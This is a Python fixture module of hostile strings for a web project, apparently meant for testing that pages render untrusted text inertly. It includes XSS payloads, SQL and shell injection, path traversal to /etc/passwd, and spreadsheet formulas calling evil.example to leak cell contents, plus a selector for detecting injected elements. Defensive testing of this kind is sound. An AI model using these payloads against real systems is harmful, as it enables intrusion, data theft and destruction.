"""Texts that attack whoever shows them, of every kind that we know; each was written for this project.

None may act: what would is `alert`, an element named `x-injected`, a request, or a page that falls apart.
"""

import os
from pathlib import Path

MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror='alert(1)'>",
    "`><img src=`x` onerror=`alert(1)`>",
    "<img src=x onerror=alert&lpar;1&rpar;>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><x-injected></x-injected></template><x-injected>",
    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><button autofocus onfocus=alert(1)>Go</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src onloadstart=alert(1)>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    "<body onload=alert(1)><frameset onload=alert(1)>",
    "<style>*{display:none!important}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<!-- --!><x-injected><!--",
    "]]><x-injected><![CDATA[",
    "</textarea></title></select></td></table></a></button><x-injected>",
    "<x-injected hx-get='/accounts/logout/' hx-trigger='load'></x-injected>",
    "<div hx-on::load=alert(1) data-hx-get='/accounts/logout/' data-hx-trigger=load>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
]
ATTRIBUTES = [
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    " onmouseover=alert(1) x=",
    '"></span><x-injected class="',
    '" hx-get="/accounts/logout/" hx-trigger="load" x="',
    '" formaction="javascript:alert(1)" x="',
    '" style="position:fixed;inset:0;background:red" x="',
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://good.example",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "/\\evil.example/x",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "mailto:a@evil.example?bcc=b@evil.example",
]
LANGUAGES = [
    "{{ 7|add:7 }}{% now 'Y' %}{% load x %}{# x #}",
    "{{constructor.constructor('alert(1)')()}}${7*7}#{7*7}<%= 7*7 %>",
    "'; DROP TABLE investigate_messagenote; --",
    "' OR '1'='1",
    "$(touch /tmp/injected)`id`|id;id&&id",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '{"__proto__":{"polluted":1}}',
    "from:x OR (disposition:",
    '"unclosed AND NOT',
    "*)(uid=*))(|(uid=*",
]
LETTERS = [
    "invoice\u202efdp.exe\u202c",
    "\u2066left\u2067right\u2068first\u2069",
    "zero\u200bwidth\u200djoin\u2060er\ufeff",
    "nul\x00bell\x07escape\x1b[31mred\x1b[0m",
    "line\u2028separator\u2029paragraph\x85next",
    "r\u0430ypal and \u0261oogle",
    "Z\u0351\u0352\u0353a\u0354\u0355l\u0356g\u0357o\u0358" * 4,
    "\U000e0001\U000e0041\U000e0042hidden tags",
    "تقرير الربع الأول",
    "報告書 보고서 รายงาน नमस्ते",
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏿",
    "\ufffd\ufffe\uffff",
    "W" * 300,
    "a." * 150,
    " \t ",
]
TEXTS = [*MARKUP, *ATTRIBUTES, *ADDRESSES, *LANGUAGES, *LETTERS]


def texts_from_outside() -> list[str]:
    """Return the lines of the file that HOSTILE_TEXTS names, such as a corpus of somebody else; none without it."""
    path = os.environ.get("HOSTILE_TEXTS", "")
    return [line for line in Path(path).read_text(errors="replace").splitlines() if line.strip()] if path else []


INJECTED = """() => [...document.querySelectorAll(
  "x-injected, script:not([src]), style, iframe, object, embed, base, math, marquee, video, audio, frameset, " +
  "meta[http-equiv], svg[onload], animate, [onerror], [onload], [onmouseover], [onfocus], [ontoggle], [style], " +
  "[hx-get^='/accounts'], [data-hx-get], [formaction^='javascript:' i], link:not([href^='/static/']), " +
  "a[href^='javascript:' i], a[href^='data:'], a[href]:not([href^='/'], [href^='#'], [href^='?']), " +
  "form[action]:not([action^='/']), " +
  "img:not([data-picture-image])"
)].map((element) => element.outerHTML.slice(0, 200))"""
"""What of these texts became part of the page; none may."""
